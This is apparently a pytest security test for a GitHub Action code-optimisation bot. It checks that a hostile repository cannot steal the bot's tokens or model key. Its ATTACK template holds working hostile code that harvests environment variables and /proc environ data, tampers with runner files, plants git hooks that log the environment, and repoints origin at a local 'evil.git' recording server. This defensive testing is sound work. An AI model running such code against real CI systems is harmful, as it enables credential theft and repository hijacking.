"""The trust boundary end to end: the repository's own code attacks the bot and finds nothing.

The target repository's conftest.py (run by the real loop: baseline tests, candidates) and a
sitecustomize.py on its import path try every way a test could reach a secret: its
environment, every ancestor's /proc/<pid>/environ and cmdline, the runner's GITHUB_ENV /
GITHUB_OUTPUT files, and it rewrites .git/config (origin to a recording HTTP server, hooks,
fsmonitor) so a later authenticated git command would leak. `action run` runs as a real
process with a read-only token string and a model key; `action publish` as another with a
different write token, from the checkout directory itself. Publish must still open the PR,
and the canary proves it ran none of the repository's code.
"""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pytest_httpserver import HTTPServer

from tests.support.fake_github import FakeGitHub, webhook
from tests.support.remotes import Repos, make_repos

pytestmark = pytest.mark.slow
READ_TOKEN = "ghs_READonly0000aaaa1111bbbb2222"
WRITE_TOKEN = "ghs_WRITEsecret9999zzzz8888yyyy"
MODEL_KEY = "sk-ant-MODELKEY-7777-xxxx-6666"
RUNTIME_TOKEN = "ACTIONSRUNTIME-5555-qqqq"
SECRETS = (READ_TOKEN, WRITE_TOKEN, MODEL_KEY, RUNTIME_TOKEN)

ATTACK = '''\
"""What a hostile test suite would do. Writes what it found to {dump}."""
import json, os, pathlib, subprocess

found = {{"env": dict(os.environ), "proc": {{}}, "files": {{}}, "wrote": []}}
pid = os.getpid()
while pid > 1:
    for part in ("environ", "cmdline"):
        try:
            raw = pathlib.Path(f"/proc/{{pid}}/{{part}}").read_bytes()
            found["proc"][f"{{pid}}/{{part}}"] = raw.decode("latin-1")
        except OSError as exc:
            found["proc"][f"{{pid}}/{{part}}"] = f"unreadable: {{exc}}"
    try:
        status = pathlib.Path(f"/proc/{{pid}}/status").read_text()
        pid = int(next(l for l in status.splitlines() if l.startswith("PPid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        break
for key in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_PATH"):
    path = os.environ.get(key)
    if path:
        try:
            with open(path, "a") as fh:
                fh.write("PWNED=1\\n")
            found["wrote"].append(key)
        except OSError:
            pass
common = subprocess.run(
    ["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True
).stdout.strip()
if common:
    config = pathlib.Path(common).resolve() / "config"
    found["files"]["git-config"] = config.read_text()
    hooks = pathlib.Path({hooks!r})
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout"):
        hook = hooks / name
        # logs only when the bot's git runs it (the suite's own git calls carry PYTEST_VERSION)
        hook.write_text(
            "#!/bin/sh\\n[ -n \\"$PYTEST_VERSION\\" ] || (echo \\"$0 $*\\"; env) >> {hooklog}\\n"
        )
        hook.chmod(0o755)
    for key, value in (("remote.origin.url", {evil!r}), ("core.hooksPath", str(hooks)),
                       ("core.fsmonitor", str(hooks / "post-commit"))):
        subprocess.run(["git", "config", "--file", str(config), key, value])
with open({dump!r}, "a") as fh:
    fh.write(json.dumps(found) + "\\n")
with open({canary!r}, "a") as fh:
    fh.write(f"{{__name__}} {{os.getpid()}}\\n")
'''

DEMO_CODE = {
    "src/demo/__init__.py": "",
    "src/demo/hot.py": '''\
def common_tags(tags: list[str], allowed: list[str]) -> list[str]:
    """The tags, in order, that are in ``allowed`` (membership test on a list: slow)."""
    return [tag for tag in tags if tag in allowed]
''',
    "tests/test_hot.py": """\
import random

from demo import hot


def test_common_tags():
    rng = random.Random(101)
    tags = [f"tag{rng.randrange(1000)}" for _ in range(3000)]
    allowed = [f"tag{n}" for n in range(0, 1000, 2)]
    assert hot.common_tags(tags, allowed) == [t for t in tags if int(t[3:]) % 2 == 0]
""",
}


class Recorder(http.server.BaseHTTPRequestHandler):
    """The attacker's git server: records every request (and its headers), serves nothing."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Recorder.seen.append(f"{self.path} {dict(self.headers)}")
        self.send_response(404)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    Recorder.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/evil.git"
    server.shutdown()


@pytest.fixture
def fake(httpserver: HTTPServer) -> Iterator[FakeGitHub]:
    gh = FakeGitHub(httpserver)
    gh.permissions.update({"Codertocat": "admin"})
    yield gh
    assert gh.problems == [], "requests not matching GitHub's REST description"


def runner_env(tmp: Path, fake: FakeGitHub, workspace: Path, server: str) -> dict[str, str]:
    event = webhook("issue_comment.created.json")
    event["comment"]["body"] = "/codeflash cpu"
    event["issue"]["number"] = 1
    (tmp / "event.json").write_text(json.dumps(event))
    for name in ("env", "output", "summary", "path"):
        (tmp / f"runner-{name}").write_text("")
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp / "home"),
        "LANG": "C.UTF-8",
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "issue_comment",
        "GITHUB_EVENT_PATH": str(tmp / "event.json"),
        "GITHUB_REPOSITORY": fake.full_name,
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_API_URL": fake.base,
        "GITHUB_SERVER_URL": server,
        "GITHUB_RUN_ID": "6161",
        "GITHUB_ENV": str(tmp / "runner-env"),
        "GITHUB_OUTPUT": str(tmp / "runner-output"),
        "GITHUB_STEP_SUMMARY": str(tmp / "runner-summary"),
        "GITHUB_PATH": str(tmp / "runner-path"),
        "ACTIONS_RUNTIME_TOKEN": RUNTIME_TOKEN,
    }


def bot(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The console script, as the image's ENTRYPOINT runs it."""
    return subprocess.run(
        [str(Path(sys.executable).parent / "codeflash-bot"), "action", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )


def test_repository_code_never_sees_the_write_token_or_the_model_key(
    tmp_path: Path, fake: FakeGitHub, attacker: str
) -> None:
    dump, canary = tmp_path / "dump.jsonl", tmp_path / "canary"
    hooks, hooklog = tmp_path / "evil-hooks", tmp_path / "hooklog"
    attack = ATTACK.format(
        dump=str(dump), canary=str(canary), hooks=str(hooks), hooklog=str(hooklog), evil=attacker
    )
    files = {
        **DEMO_CODE,
        "pyproject.toml": f"""\
[project]
name = "demo"
version = "0.1.0"

[tool.pytest.ini_options]
pythonpath = ["src"]

[tool.codeflash-bot]
python = "{sys.executable}"
budget-minutes = 3
max-experiments = 3
max-aa-noise = 50
llm-base-url = "http://127.0.0.1:9/steal"
""",
        "conftest.py": attack,
        "src/sitecustomize.py": attack,
    }
    repos: Repos = make_repos(tmp_path / "git", files)
    server_root = tmp_path / "server"
    (server_root / fake.full_name).parent.mkdir(parents=True)
    (server_root / f"{fake.full_name}.git").symlink_to(repos.origin)
    (tmp_path / "home").mkdir()
    env = runner_env(tmp_path, fake, repos.workspace, f"file://{server_root}")

    run_env = {**env, "INPUT_GITHUB-TOKEN": READ_TOKEN, "ANTHROPIC_API_KEY": MODEL_KEY}
    artifact = tmp_path / "artifact"
    ran = bot(["run", "--artifact", str(artifact)], run_env, repos.workspace)
    assert ran.returncode == 0, ran.stderr[-2000:]
    assert canary.exists(), "the repository's code never ran: the test proves nothing"
    assert fake.writes() == []

    # everything the repository's code could read, and every place it could have written
    seen = dump.read_text()
    assert '"proc"' in seen and "/environ" in seen
    for secret in SECRETS:
        assert secret not in seen, f"{secret} reached the repository's code"
    manifest = json.loads((artifact / "manifest.json").read_text())
    assert manifest["branch"].startswith("codeflash/ds-"), manifest
    for name in ("env", "output", "summary", "path"):
        assert "PWNED" not in (tmp_path / f"runner-{name}").read_text()
    assert not hooklog.exists(), f"a repository hook ran: {hooklog.read_text()[:3000]}"
    assert Recorder.seen == [], "git talked to the URL the repository put in .git/config"
    assert "steal" not in json.dumps(fake.calls, default=str)

    # publish: a different token, the checkout as cwd, no model key
    canary.unlink()
    publish_env = {**env, "INPUT_GITHUB-TOKEN": WRITE_TOKEN}
    done = bot(["publish", "--artifact", str(artifact)], publish_env, repos.workspace)
    assert done.returncode == 0, done.stderr[-2000:]
    assert not canary.exists(), "publish ran the repository's code"
    created = [c for c in fake.calls if c.method == "POST" and c.path.endswith("/pulls")]
    assert len(created) == 1 and created[0].body["head"] == manifest["branch"]
    assert repos.remote_refs()[f"refs/heads/{manifest['branch']}"] == manifest["head_sha"]
    assert "tag in allowed" not in repos.show(manifest["branch"], "src/demo/hot.py")
    assert Recorder.seen == []
    for secret in SECRETS:
        assert secret not in json.dumps([c.body for c in fake.calls], default=str)
        shown = [line for line in done.stdout.splitlines() if not line.startswith("::add-mask")]
        assert secret not in "\n".join(shown)
